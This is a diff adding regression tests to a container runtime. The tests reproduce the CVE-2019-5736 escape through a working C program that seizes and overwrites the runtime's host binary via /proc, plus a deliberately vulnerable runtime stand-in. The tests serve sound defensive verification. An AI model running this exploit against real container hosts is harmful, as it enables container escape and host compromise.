@@ -738,6 +738,315 @@ fn runtime_exe_and_root_are_out_of_reach_during_create_in_a_shared_pid_namespace
 }
 
 // ---------------------------------------------------------------------------------------------
+// CVE-2019-5736 as published: the container's program is `#!/proc/self/exe`
+
+/// The container's init: watches /proc for a process whose exe is the target binary (the
+/// runtime's own, run inside the container by the kernel because the program it exec'd starts
+/// with `#!/proc/self/exe`). It holds that exe open, kills the process so the binary is no
+/// longer busy, and keeps reopening the held file for writing until MS ends. Prints counters.
+/// argv: MS TARGET_DEV TARGET_INO.
+const EXE_GRABBER: &str = r#"
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+static long now_ms(void) {
+    struct timespec ts;
+    clock_gettime(CLOCK_MONOTONIC, &ts);
+    return ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
+}
+
+int main(int argc, char **argv) {
+    if (argc < 4) { fprintf(stderr, "usage: grabber MS DEV INO\n"); return 2; }
+    long end = now_ms() + atol(argv[1]);
+    dev_t tdev = (dev_t)strtoull(argv[2], 0, 10);
+    ino_t tino = (ino_t)strtoull(argv[3], 0, 10);
+    pid_t me = getpid();
+    long hits = 0, write_ok = 0, erofs = 0, etxtbsy = 0, other = 0, scans = 0;
+    int held[256];
+    int nheld = 0;
+    while (now_ms() < end) {
+        while (waitpid(-1, 0, WNOHANG | __WALL) > 0) {}
+        scans++;
+        DIR *d = opendir("/proc");
+        if (d) {
+            struct dirent *e;
+            while ((e = readdir(d))) {
+                pid_t pid = atoi(e->d_name);
+                if (pid <= 1 || pid == me) continue;
+                char p[64];
+                snprintf(p, sizeof p, "/proc/%d/exe", pid);
+                int fd = open(p, O_RDONLY | O_CLOEXEC);
+                if (fd < 0) continue;
+                struct stat st;
+                if (fstat(fd, &st) == 0 && st.st_dev == tdev && st.st_ino == tino && nheld < 256) {
+                    hits++;
+                    held[nheld++] = fd;
+                    kill(pid, SIGKILL);
+                } else {
+                    close(fd);
+                }
+            }
+            closedir(d);
+        }
+        for (int i = 0; i < nheld; i++) {
+            char q[64];
+            snprintf(q, sizeof q, "/proc/self/fd/%d", held[i]);
+            int w = open(q, O_WRONLY | O_CLOEXEC);
+            if (w >= 0) {
+                if (pwrite(w, "PWNED", 5, 0) == 5) write_ok++;
+                close(w);
+            } else if (errno == EROFS) {
+                erofs++;
+            } else if (errno == ETXTBSY) {
+                etxtbsy++;
+            } else {
+                other++;
+            }
+        }
+        usleep(500);
+    }
+    printf("{\"scans\":%ld,\"hits\":%ld,\"write_ok\":%ld,\"erofs\":%ld,\"etxtbsy\":%ld,\"other\":%ld}\n",
+           scans, hits, write_ok, erofs, etxtbsy, other);
+    fflush(stdout);
+    return 0;
+}
+"#;
+
+/// Copy `bin`'s ELF interpreter and shared libraries into the rootfs at their host paths, as
+/// any glibc-based image has them: the kernel loads the container's copies when it runs the
+/// binary inside the container.
+fn install_libraries_of(b: &Bundle, bin: &Path) {
+    let o = Command::new("ldd").arg(bin).output().expect("run ldd");
+    for lib in String::from_utf8_lossy(&o.stdout)
+        .split_whitespace()
+        .filter(|w| w.starts_with('/'))
+    {
+        let dst = b.rootfs().join(lib.trim_start_matches('/'));
+        fs::create_dir_all(dst.parent().expect("library dir")).expect("mkdir library dir");
+        fs::copy(lib, &dst).unwrap_or_else(|e| panic!("copy {lib}: {e}"));
+    }
+}
+
+/// A bundle whose init is EXE_GRABBER aimed at `target`, with /evil (`#!/proc/self/exe`) and
+/// the libraries of every binary in `libs_of`.
+fn grabber_bundle(target: &Path, ms: u64, libs_of: &[&Path]) -> Bundle {
+    let mut a = Bundle::new();
+    install(&a, "grabber", EXE_GRABBER);
+    for bin in libs_of {
+        install_libraries_of(&a, bin);
+    }
+    let evil = a.rootfs().join("evil");
+    fs::write(&evil, "#!/proc/self/exe\n").expect("write /evil");
+    fs::set_permissions(&evil, fs::Permissions::from_mode(0o755)).expect("chmod /evil");
+    let md = fs::metadata(target).expect("stat target");
+    a.set_args(&[
+        "/grabber",
+        &ms.to_string(),
+        &md.dev().to_string(),
+        &md.ino().to_string(),
+    ]);
+    a.write();
+    a
+}
+
+/// A naive runtime, as runc was before its fix: joins the container's pid and mount
+/// namespaces, drops every capability and execs PROG inside, from an unsealed binary. Run with
+/// bad arguments (as the kernel does when PROG is `#!/proc/self/exe`) it lingers a moment
+/// before failing, as a runtime parsing its command line would. argv: PID PROG.
+const NAIVE_JOINER: &str = r#"
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <linux/capability.h>
+#include <sched.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <sys/prctl.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+int main(int argc, char **argv) {
+    int pid = argc == 3 ? atoi(argv[1]) : 0;
+    if (pid <= 0) { usleep(300000); fprintf(stderr, "usage: joiner PID PROG\n"); return 2; }
+    char p[64];
+    snprintf(p, sizeof p, "/proc/%d/ns/pid", pid);
+    int pidns = open(p, O_RDONLY | O_CLOEXEC);
+    snprintf(p, sizeof p, "/proc/%d/ns/mnt", pid);
+    int mntns = open(p, O_RDONLY | O_CLOEXEC);
+    if (pidns < 0 || mntns < 0 || setns(pidns, CLONE_NEWPID) < 0) { perror("setns pid"); return 1; }
+    pid_t c = fork();
+    if (c == 0) {
+        if (setns(mntns, CLONE_NEWNS) < 0 || chdir("/") < 0) { perror("setns mnt"); _exit(1); }
+        for (int cap = 0; cap <= 63; cap++) prctl(PR_CAPBSET_DROP, cap, 0, 0, 0);
+        struct __user_cap_header_struct h = { _LINUX_CAPABILITY_VERSION_3, 0 };
+        struct __user_cap_data_struct d[2] = { { 0, 0, 0 }, { 0, 0, 0 } };
+        if (syscall(SYS_capset, &h, d) < 0) { perror("capset"); _exit(1); }
+        execl(argv[2], argv[2], (char *)0);
+        perror("exec");
+        _exit(1);
+    }
+    int st = 0;
+    waitpid(c, &st, 0);
+    return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
+}
+"#;
+
+/// The unprotected path: NAIVE_JOINER, a host binary that joins the container and execs
+/// /evil with the container's privileges. The grabber must rewrite it, or the tests that
+/// follow could not fail.
+#[test]
+fn the_proc_self_exe_attack_works_against_an_unsealed_joiner() {
+    let _race = race_lock();
+    let tmp = tempdir("vsrun-esc-5736-demo-");
+    let decoy = tmp.path().join("naive-joiner");
+    fs::copy(helper("naive-joiner", NAIVE_JOINER), &decoy).expect("copy the naive joiner");
+    fs::set_permissions(&decoy, fs::Permissions::from_mode(0o755)).expect("chmod decoy");
+    let original = fs::read(&decoy).expect("read decoy");
+    let rt = Runtime::new();
+    let a = grabber_bundle(&decoy, 3000, &[]);
+    let id = unique_id("demo-5736");
+    assert_success(&rt.run_detached(&a, &id), "run -d of the grabber");
+    let init = init_pid(&rt, &id);
+    for _ in 0..5 {
+        // Once the grabber has rewritten it, the decoy no longer runs (ENOEXEC).
+        match Command::new(&decoy)
+            .args([&init.to_string(), "/evil"])
+            .stdin(Stdio::null())
+            .output()
+        {
+            Ok(o) => eprintln!("decoy: {}", output_text(&o).trim()),
+            Err(e) => eprintln!("decoy: {e}"),
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    let out = wait_detached_output(&rt, &id);
+    let _ = rt.delete_force(&id);
+    let g: Value = serde_json::from_str(&out).expect("grabber JSON");
+    eprintln!("demo grabber: {g}");
+    assert!(
+        count(&g, "hits") > 0 && count(&g, "write_ok") > 0 && fs::read(&decoy).unwrap() != original,
+        "the grabber could not rewrite an unsealed joiner's binary: the vsrun tests prove nothing\n{g}"
+    );
+}
+
+fn wait_detached_output(rt: &Runtime, id: &str) -> String {
+    let deadline = Instant::now() + Duration::from_secs(30);
+    loop {
+        let (out, _) = rt.container_output(id);
+        if let Some(line) = out.lines().find(|l| l.starts_with('{')) {
+            return line.to_string();
+        }
+        assert!(
+            Instant::now() < deadline,
+            "{id}: the grabber printed nothing: {out:?}"
+        );
+        std::thread::sleep(Duration::from_millis(50));
+    }
+}
+
+/// vsrun joins the grabber's container again and again (exec, or create of a container in its
+/// pid namespace) with /evil as the program: the kernel runs vsrun's binary in the container,
+/// the grabber gets hold of it, and must never be able to write it.
+fn proc_self_exe_race(joiner: Joiner) {
+    let _race = race_lock();
+    let tmp = tempdir("vsrun-esc-5736-");
+    let bin = tmp.path().join("vsrun");
+    fs::copy(vsrun_bin(), &bin).expect("copy vsrun");
+    fs::set_permissions(&bin, fs::Permissions::from_mode(0o755)).expect("chmod vsrun copy");
+    let original = fs::read(&bin).expect("read vsrun copy");
+    let rt = Runtime::new();
+    let ms = 5000;
+    let a = grabber_bundle(&bin, ms, &[&bin]);
+    let id = unique_id("victim-5736");
+    rt.remember_bundle(&id, a.path());
+    let out = tmp.path().join("grabber.out");
+    let o = run_copy(
+        &bin,
+        &rt,
+        &["run", "-d", "--bundle", a.path_str(), &id],
+        Some(&out),
+    );
+    assert_success(&o, "run -d of the grabber");
+    let init = init_pid(&rt, &id);
+    let joiner_bundle = (joiner == Joiner::CreateInSharedPidNs).then(|| {
+        let mut b = Bundle::new();
+        install_libraries_of(&b, &bin);
+        fs::write(b.rootfs().join("evil"), "#!/proc/self/exe\n").expect("write /evil");
+        fs::set_permissions(b.rootfs().join("evil"), fs::Permissions::from_mode(0o755))
+            .expect("chmod /evil");
+        b.set_namespace("pid", Some(&format!("/proc/{init}/ns/pid")));
+        b.set_args(&["/evil"]);
+        b.write();
+        b
+    });
+    let started = Instant::now();
+    let mut joins = 0;
+    let mut ran_inside = 0;
+    while started.elapsed() < Duration::from_millis(ms - 1500) && joins < 40 {
+        joins += 1;
+        let o = match &joiner_bundle {
+            None => run_copy(&bin, &rt, &["exec", &id, "/evil"], None),
+            Some(b) => {
+                let jid = unique_id("joiner-5736");
+                rt.remember_bundle(&jid, b.path());
+                let o = run_copy(&bin, &rt, &["create", "--bundle", b.path_str(), &jid], None);
+                let _ = run_copy(&bin, &rt, &["start", &jid], None);
+                std::thread::sleep(Duration::from_millis(30));
+                let _ = rt.delete_force(&jid);
+                o
+            }
+        };
+        // Proof that the kernel really ran vsrun's binary inside the container: its own
+        // usage error, or the grabber's SIGKILL (exit 137), comes back from `exec`.
+        if stderr_str(&o).contains("unrecognized subcommand") || o.status.code() == Some(137) {
+            ran_inside += 1;
+        }
+    }
+    let g = wait_json_line(&out, Duration::from_millis(ms + 20_000), "grabber");
+    let _ = rt.delete_force(&id);
+    eprintln!("grabber: {g}; joins {joins}, vsrun ran inside {ran_inside}");
+    assert_eq!(
+        fs::read(&bin).expect("read vsrun copy"),
+        original,
+        "the container rewrote vsrun's binary on the host\n{g}"
+    );
+    assert_eq!(
+        count(&g, "write_ok"),
+        0,
+        "the container wrote vsrun's binary\n{g}"
+    );
+    if joiner == Joiner::Exec {
+        assert!(
+            ran_inside > 0,
+            "vsrun's binary never ran inside the container: the attack was not exercised"
+        );
+    }
+    assert!(
+        count(&g, "hits") > 0 && count(&g, "erofs") > 0,
+        "the grabber never held vsrun's binary, or was not refused with EROFS (race not exercised)\n{g}"
+    );
+}
+
+#[test]
+fn runtime_binary_stays_intact_when_exec_runs_proc_self_exe() {
+    proc_self_exe_race(Joiner::Exec);
+}
+
+#[test]
+fn runtime_binary_stays_intact_when_a_joining_init_runs_proc_self_exe() {
+    proc_self_exe_race(Joiner::CreateInSharedPidNs);
+}
+
+// ---------------------------------------------------------------------------------------------
 // CVE-2021-30465: a mount destination swapped for a symlink
 
 #[test]
